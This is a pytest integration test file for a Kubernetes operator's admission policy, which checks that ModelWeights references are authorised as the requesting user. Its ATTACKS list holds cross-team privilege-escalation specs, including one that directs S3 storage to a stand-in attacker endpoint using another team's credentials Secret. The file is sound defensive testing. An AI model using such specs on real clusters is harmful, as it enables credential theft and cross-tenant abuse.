"""Every reference in a ModelWeights is authorised as the requesting user, at
admission (the chart's `references` ValidatingAdmissionPolicy), on the real
API server.

The user is impersonated (`kubectl --as dev-a`) and holds only ModelWeights
rights in the namespace; a Deployment, a Secret and a claim of another team
sit beside hers. Naming any of them is refused with the field, the object and
the verb, and nothing is stored; naming her own (once she may use them) is
accepted. A request that leaves the spec alone (the operator's finalizer, a
label) is not re-checked.
"""
from __future__ import annotations

import json
import subprocess

import pytest

import localcluster
from cluster_support import Kube, wait_for

pytestmark = pytest.mark.cluster
RELEASE = "refs-test"  # not "ferry": tests/test_chart.py installs that release
POLICY = f"{RELEASE}-ferry-references"
USER = "dev-a"


@pytest.fixture(scope="module")
def references_policy(crd: Kube):
    objects = localcluster.render_chart(RELEASE, "templates/admission.yaml")
    assert {(o["kind"], o["metadata"]["name"]) for o in objects} == {
        ("ValidatingAdmissionPolicy", POLICY), ("ValidatingAdmissionPolicyBinding", POLICY)}
    for o in objects:
        crd.apply(o)
    yield objects
    for o in objects:
        crd.kubectl("delete", o["kind"], POLICY, "--ignore-not-found", check=False)


@pytest.fixture
def team(crd: Kube, namespace: str, references_policy) -> str:
    """dev-a may do anything with ModelWeights in the namespace, nothing else;
    team B's Deployment, Secret and claim are there too."""
    crd.apply({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
               "metadata": {"name": "modelweights-editor", "namespace": namespace},
               "rules": [{"apiGroups": ["ferry.dev"], "resources": ["modelweights"], "verbs": ["*"]},
                         # She may create claims of her own (storage.pvc.size), not use another's.
                         {"apiGroups": [""], "resources": ["persistentvolumeclaims"], "verbs": ["create"]}]})
    bind(crd, namespace, "modelweights-editor")
    for owner in ("team-a", "team-b"):
        crd.apply(deployment(f"{owner}-vllm", namespace))
        crd.apply({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": f"{owner}-s3", "namespace": namespace},
                   "stringData": {"AWS_ACCESS_KEY_ID": "id", "AWS_SECRET_ACCESS_KEY": "secret"}})
        crd.apply({"apiVersion": "v1", "kind": "PersistentVolumeClaim",
                   "metadata": {"name": f"{owner}-weights", "namespace": namespace},
                   "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}},
                            "storageClassName": "none-such"}})
    return namespace


def bind(kube: Kube, namespace: str, role: str) -> None:
    kube.apply({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                "metadata": {"name": f"{USER}-{role}", "namespace": namespace},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": role},
                "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": USER}]})


def grant(kube: Kube, namespace: str, role: str, resource: str, verb: str, name: str, group: str = "") -> None:
    kube.apply({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                "metadata": {"name": role, "namespace": namespace},
                "rules": [{"apiGroups": [group], "resources": [resource], "verbs": [verb], "resourceNames": [name]}]})
    bind(kube, namespace, role)


def deployment(name: str, namespace: str) -> dict:
    labels = {"app": name}
    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name, "namespace": namespace},
            "spec": {"replicas": 0, "selector": {"matchLabels": labels},
                     "template": {"metadata": {"labels": labels},
                                  "spec": {"containers": [{"name": "vllm", "image": "vllm/vllm-openai:v0.32.0",
                                                           "args": ["--port", "8000"]}]}}}}


def modelweights(name: str, **spec: object) -> dict:
    base = {"source": {"uri": "s3://models/llama"}, "storage": {"pvc": {"size": "1Gi"}}}
    base.update(spec)
    return {"apiVersion": "ferry.dev/v1alpha1", "kind": "ModelWeights", "metadata": {"name": name}, "spec": base}


def as_user(kube: Kube, namespace: str, verb: str, obj: dict) -> subprocess.CompletedProcess:
    return kube.kubectl(verb, "--as", USER, "-n", namespace, "-f", "-", input=json.dumps(obj), check=False)


def refused(kube: Kube, namespace: str, obj: dict) -> subprocess.CompletedProcess | None:
    """The refused create, or None when it went through: a new policy binding
    takes a moment to be enforced, so what slipped through is removed and tried again."""
    proc = as_user(kube, namespace, "create", obj)
    if proc.returncode == 0:
        kube.kubectl("delete", "mw", obj["metadata"]["name"], "-n", namespace, "--wait=false")
        return None
    return proc


ATTACKS = [
    ("deployment", {"serving": {"deployments": [{"name": "team-a-vllm-x"}, {"name": "team-b-vllm"}]}},
     "spec.serving.deployments[1]: user dev-a may not patch deployments/team-b-vllm in {ns}"),
    # A LeaderWorkerSet she may not patch, though the Deployment of the same name is hers: checked by kind.
    ("leaderworkerset", {"format": {"type": "sharded_state", "pipelineParallelSize": 2, "vllmVersion": "0.32"},
                         "serving": {"targets": [{"kind": "Deployment", "name": "team-a-vllm-x"},
                                                 {"kind": "LeaderWorkerSet", "name": "team-a-vllm-x",
                                                  "groupSize": 2}]}},
     "spec.serving.targets[1]: user dev-a may not patch leaderworkersets/team-a-vllm-x in {ns}"),
    ("source-secret", {"source": {"uri": "s3://models/llama", "credentialsSecretRef": {"name": "team-b-s3"}}},
     "spec.source.credentialsSecretRef: user dev-a may not get secrets/team-b-s3 in {ns}"),
    ("store-secret", {"format": {"type": "tensorizer"},
                      "storage": {"pvc": {"size": "1Gi"},
                                  "s3": {"uri": "s3://team-a/x", "endpoint": "http://attacker.example:9000",
                                         "credentialsSecretRef": {"name": "team-b-s3"}}}},
     "spec.storage.s3.credentialsSecretRef: user dev-a may not get secrets/team-b-s3 in {ns}"),
    ("tensorizer-key", {"format": {"type": "tensorizer", "tensorizer": {"encryptionSecretRef": {"name": "team-b-s3"}}},
                        "storage": {"pvc": {"size": "1Gi"}, "s3": {"uri": "s3://team-a/x"}}},
     "spec.format.tensorizer.encryptionSecretRef: user dev-a may not get secrets/team-b-s3 in {ns}"),
    ("artifact-claim", {"storage": {"pvc": {"name": "team-b-weights"}}, "deletionPolicy": "Delete"},
     "spec.storage.pvc.name: user dev-a may not update persistentvolumeclaims/team-b-weights in {ns}"),
    ("source-claim", {"source": {"uri": "pvc://team-b-weights/llama"}},
     "spec.source.uri: user dev-a may not get persistentvolumeclaims/team-b-weights in {ns}"),
]


@pytest.mark.parametrize("case,spec,words", ATTACKS, ids=[a[0] for a in ATTACKS])
def test_a_reference_the_user_may_not_use_is_refused_naming_field_object_and_verb(crd, team, case, spec, words):
    # The team-a Deployment named first is hers, once she may patch it: only team B's is refused.
    grant(crd, team, "patch-own-deployment", "deployments", "patch", "team-a-vllm-x", group="apps")
    before = crd.get_json("deployment", "team-b-vllm", "-n", team)["metadata"]["resourceVersion"]
    obj = modelweights(case, **spec)
    proc = wait_for(lambda: refused(crd, team, obj), "the references policy enforced")
    assert words.format(ns=team) in proc.stderr, proc.stderr
    assert crd.kubectl("get", "mw", case, "-n", team, check=False).returncode != 0, "the refused object was stored"
    assert crd.get_json("deployment", "team-b-vllm", "-n", team)["metadata"]["resourceVersion"] == before


def test_references_she_may_use_are_accepted_and_a_spec_change_is_checked_again(crd, team):
    grant(crd, team, "patch-own-deployment", "deployments", "patch", "team-a-vllm", group="apps")
    grant(crd, team, "read-own-secret", "secrets", "get", "team-a-s3")
    grant(crd, team, "write-own-claim", "persistentvolumeclaims", "update", "team-a-weights")
    own = modelweights("own", source={"uri": "s3://models/llama", "credentialsSecretRef": {"name": "team-a-s3"}},
                       storage={"pvc": {"name": "team-a-weights"}},
                       serving={"deployments": [{"name": "team-a-vllm"}]})
    # RBAC grants reach the authorizer's cache within a moment.
    wait_for(lambda: as_user(crd, team, "create", own).returncode == 0, "her own references accepted")

    # Changing the spec to another team's Deployment is checked as she asks it.
    stolen = json.loads(json.dumps(own))
    stolen["spec"]["serving"]["deployments"] = [{"name": "team-b-vllm"}]
    proc = as_user(crd, team, "apply", stolen)
    assert proc.returncode != 0 and "may not patch deployments/team-b-vllm" in proc.stderr, proc.stderr
    assert crd.get_json("mw", "own", "-n", team)["spec"]["serving"]["deployments"] == [{"name": "team-a-vllm"}]


def test_a_claim_is_created_for_her_only_if_she_could_create_it(crd, team):
    crd.kubectl("delete", "rolebinding", f"{USER}-modelweights-editor", "-n", team)
    crd.apply({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
               "metadata": {"name": "modelweights-only", "namespace": team},
               "rules": [{"apiGroups": ["ferry.dev"], "resources": ["modelweights"], "verbs": ["*"]}]})
    bind(crd, team, "modelweights-only")
    obj = modelweights("sized")  # storage.pvc.size: Ferry would create the claim
    proc = wait_for(lambda: refused(crd, team, obj), "the references policy enforced")
    assert f"spec.storage.pvc.size: user dev-a may not create persistentvolumeclaims in {team}" in proc.stderr


def test_a_request_that_leaves_the_spec_alone_is_not_checked_again(crd, team):
    # Created by an admin, naming team B's Secret: the operator's finalizer and
    # a user's label on it are not spec changes, so they pass.
    obj = modelweights("admin-made", source={"uri": "s3://models/llama",
                                             "credentialsSecretRef": {"name": "team-b-s3"}})
    obj["metadata"]["namespace"] = team
    crd.apply(obj)
    proc = crd.kubectl("label", "--as", USER, "-n", team, "mw/admin-made", "team=a", check=False)
    assert proc.returncode == 0, proc.stderr
    proc = crd.kubectl("patch", "--as", USER, "-n", team, "mw/admin-made", "--type=merge",
                       "-p", '{"spec": {"source": {"revision": "v2"}}}', check=False)
    assert proc.returncode != 0 and "may not get secrets/team-b-s3" in proc.stderr, proc.stderr


def test_the_most_workloads_a_spec_may_name_fit_the_policys_cel_budget(crd, team):
    """Each authorizer check costs the policy's CEL budget (about 350,000 of 10,000,000 per request): the
    most workloads serving may name (deployments and targets together), each checked as the user, plus a
    Secret reference, must still be admitted, not refused for the policy's cost."""
    from ferry_operator.api.types import MAX_WORKLOADS

    crd.apply({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
               "metadata": {"name": "patch-workloads", "namespace": team},
               "rules": [{"apiGroups": ["apps"], "resources": ["deployments", "statefulsets"], "verbs": ["patch"]},
                         {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}]})
    bind(crd, team, "patch-workloads")
    half = MAX_WORKLOADS // 2
    # Every other reference a spec can carry at once, each checked too: three Secrets and a claim to create.
    obj = modelweights("many", source={"uri": "s3://models/llama", "credentialsSecretRef": {"name": "team-b-s3"}},
                       format={"type": "tensorizer", "tensorizer": {"encryptionSecretRef": {"name": "team-b-s3"}}},
                       storage={"pvc": {"size": "1Gi"}, "s3": {"uri": "s3://team-a/x",
                                                               "credentialsSecretRef": {"name": "team-b-s3"}}},
                       serving={"deployments": [{"name": f"d{i}"} for i in range(half)],
                                "targets": [{"kind": "StatefulSet", "name": f"s{i}"}
                                            for i in range(MAX_WORKLOADS - half)]})

    def admitted():
        proc = as_user(crd, team, "create", obj)
        assert "budget" not in proc.stderr and "cost" not in proc.stderr, proc.stderr
        return proc.returncode == 0
    wait_for(admitted, "the spec with the most workloads admitted (her grants take a moment)")
    one_more = modelweights("too-many", serving={"deployments": [{"name": f"d{i}"} for i in range(half + 1)],
                                                 "targets": [{"kind": "StatefulSet", "name": f"s{i}"}
                                                             for i in range(MAX_WORKLOADS - half)]})
    proc = as_user(crd, team, "create", one_more)
    assert proc.returncode != 0 and f"at most {MAX_WORKLOADS} workloads" in proc.stderr, proc.stderr
